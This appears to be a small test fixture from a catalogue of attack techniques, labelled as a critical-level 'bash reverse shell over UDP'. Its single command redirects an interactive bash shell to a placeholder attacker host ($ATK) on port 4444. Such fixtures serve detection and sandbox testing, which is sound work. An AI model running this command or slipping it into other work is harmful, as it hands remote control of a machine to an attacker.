# SPDX-License-Identifier: MIT
# technique: bash reverse shell over UDP
# level: critical
# quick: no
t0
timeout 5 bash -c "bash -i >& /dev/udp/$ATK/4444 0>&1"
